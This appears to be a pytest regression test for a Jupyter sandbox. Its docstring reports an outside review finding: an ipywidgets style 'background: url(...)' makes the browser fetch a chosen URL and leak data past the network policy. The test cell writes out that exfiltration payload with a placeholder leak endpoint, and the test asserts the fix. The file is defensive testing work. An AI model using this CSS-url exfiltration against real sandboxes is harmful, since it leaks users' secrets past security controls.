"""Outside review (4th): a sandbox widget's style ``background: url(...)`` reaches the frontend.

Attack (around the comm/widget filter): the sandboxed cell shows
``ipywidgets.HTML("x", style={"background": "url(http://127.0.0.1:9/leak?d=SECRET)"})``.
ipywidgets 8's ``HTMLStyle`` (also ``LabelStyle``, ``CheckboxStyle``,
``TextStyle``...) has a ``background`` trait that the frontend's ``StyleView``
sets with ``element.style.setProperty("background", value)``. So as soon as
the widget is displayed the browser fetches the image URL the sandbox chose:
data leaves a STRICT sandbox past its network policy with no click. The relay
checks widget modules, ``format: url`` and strings holding ``<`` (sanitized
as HTML), never CSS values; ``clean_html``'s style filter (which refuses
``url(`` for ``text/html``) is not applied to widget state.

Judged from the host, at the protocol level (a real glsandbox kernel over
ZMQ): no sandbox comm message relayed to the frontend holds a CSS ``url(``
to anything but a ``#fragment`` in its widget state.

Fix (suggested): ``active_content.py`` (``clean_state`` / ``widget_refusal``):
drop (or refuse) widget state strings for which ``_css_fetches`` is true, at
least the style models' traits.
"""

from __future__ import annotations

import re
from typing import Any

import pytest

from ..jupyter_fixtures import Kernel, glsandbox_kernelspec, kernel_made
from .test_outside_active_outputs import kernel

__all__ = ["glsandbox_kernelspec", "kernel"]  # the fixtures, imported for pytest

pytest.importorskip("ipywidgets")
pytestmark = pytest.mark.timeout(180)

CELL = """
import ipywidgets
from IPython.display import display
display(ipywidgets.HTML("x", style={"background": "url(http://127.0.0.1:9/leak?d=SECRET)"}))
"""
URL = re.compile(r"url\s*\(\s*['\"]?\s*([^)'\"\s]*)", re.I)


def _strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in _strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return []


def test_sandbox_widget_state_has_no_remote_css_url(kernel: Kernel) -> None:
    reply, outputs = kernel.execute(CELL, timeout=90)
    assert reply["status"] == "ok", reply
    comms = [m for m in outputs if m["msg_type"] in ("comm_open", "comm_msg") and not kernel_made(m)]
    assert comms, f"no sandbox widget message was relayed: {[m['msg_type'] for m in outputs]}"
    fetched = [
        target
        for m in comms
        for s in _strings(m["content"].get("data"))
        for target in URL.findall(s)
        if not target.startswith("#")
    ]
    assert not fetched, f"the frontend would fetch {fetched} for a sandbox widget's style"
